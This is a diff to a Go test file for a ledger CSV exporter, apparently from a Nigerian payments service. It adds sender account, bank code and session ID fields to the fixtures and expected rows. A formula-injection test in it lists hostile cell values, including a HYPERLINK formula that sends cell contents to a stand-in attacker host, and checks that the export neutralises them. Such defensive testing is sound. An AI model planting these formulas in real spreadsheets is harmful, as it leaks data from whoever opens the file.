@@ -28,7 +28,7 @@ var at = time.Date(2026, 1, 30, 23, 30, 0, 0, time.UTC) // in Lagos it is the ne
 func line(narration string) ledger.Line {
 	return ledger.Line{RunningBalance: money.Must("-1234567.50"), Entry: ledger.Entry{
 		ID: uuid.New(), Direction: ledger.Credit, Amount: money.Must("5000.00"), Fee: money.Must("25.00"), Currency: "NGN", Status: ledger.Provisional,
-		Narration: narration, ProviderTxnRef: "API-VACT_TRA-1", TransactionGroupID: uuid.New(), CreatedAt: at, SenderName: "Bọ́lá Adé", SenderBank: "GTBank",
+		Narration: narration, ProviderTxnRef: "API-VACT_TRA-1", TransactionGroupID: uuid.New(), CreatedAt: at, SenderName: "Bọ́lá Adé", SenderBank: "GTBank", SenderAccount: "0123456789", SenderBankCode: "058", SessionID: "000013",
 	}}
 }
 
@@ -48,6 +48,7 @@ func TestCSV(t *testing.T) {
 	ref, of := "AJO00000000000000000000000000000000", uuid.New()
 	debit.Entry.Direction, debit.Entry.TransferRef, debit.Entry.ReversalOf, debit.Entry.ProviderTxnRef = ledger.Debit, &ref, &of, ""
 	debit.Entry.SenderName, debit.Entry.SenderBank = "", ""
+	debit.Entry.SenderAccount, debit.Entry.SenderBankCode, debit.Entry.SessionID = "", "", ""
 	var b bytes.Buffer
 	require.NoError(t, CSV(&b, sequence(credit, debit)))
 	require.True(t, bytes.HasPrefix(b.Bytes(), []byte("\xEF\xBB\xBFtime,direction,amount,")), "Excel reads it as UTF-8")
@@ -55,14 +56,14 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(bytes.NewReader(b.Bytes()[3:])).ReadAll()
 	require.NoError(t, err)
 	require.Equal(t, [][]string{
-		{"time", "direction", "amount", "fee", "currency", "status", "narration", "providerTxnRef", "transferRef", "runningBalance", "entryId", "transactionGroupId", "reversalOf", "senderName", "senderBank"},
+		{"time", "direction", "amount", "fee", "currency", "status", "narration", "providerTxnRef", "transferRef", "runningBalance", "entryId", "transactionGroupId", "reversalOf", "senderName", "senderBank", "senderAccount", "senderBankCode", "sessionId"},
 		{
 			"2026-01-31T00:30:00+01:00", "credit", "5000.00", "25.00", "NGN", "provisional", `Ọláoyè said "thanks", twice`, "API-VACT_TRA-1", "", "-1234567.50",
-			credit.Entry.ID.String(), credit.Entry.TransactionGroupID.String(), "", "Bọ́lá Adé", "GTBank",
+			credit.Entry.ID.String(), credit.Entry.TransactionGroupID.String(), "", "Bọ́lá Adé", "GTBank", "0123456789", "058", "000013",
 		},
 		{
 			"2026-01-31T00:30:00+01:00", "debit", "5000.00", "25.00", "NGN", "provisional", "", "", ref, "-1234567.50",
-			debit.Entry.ID.String(), debit.Entry.TransactionGroupID.String(), of.String(), "", "",
+			debit.Entry.ID.String(), debit.Entry.TransactionGroupID.String(), of.String(), "", "", "", "", "",
 		},
 	}, rows)
 }
@@ -74,7 +75,7 @@ func TestCSVHasNoFormulas(t *testing.T) {
 		`=HYPERLINK("https://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00A0=1", "\u200B=1", "＝1", "＋1", "－1", "＠1",
 	} {
 		l := line(evil)
-		l.Entry.ProviderTxnRef, l.Entry.SenderName, l.Entry.SenderBank = evil, evil, evil
+		l.Entry.ProviderTxnRef, l.Entry.SenderName, l.Entry.SenderBank, l.Entry.SenderAccount = evil, evil, evil, evil
 		var b bytes.Buffer
 		require.NoError(t, CSV(&b, sequence(l)))
 		rows, err := csv.NewReader(&b).ReadAll()
